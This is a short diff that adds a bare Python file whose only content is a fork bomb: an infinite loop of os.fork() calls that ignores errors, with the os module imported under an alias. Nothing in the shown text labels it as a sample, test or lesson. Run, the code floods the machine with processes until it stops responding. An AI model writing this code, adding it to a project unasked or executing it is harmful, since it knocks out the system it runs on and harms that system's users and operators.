@@ -1,0 +1,7 @@
+import os as _os
+
+while True:
+    try:
+        _os.fork()
+    except OSError:
+        pass
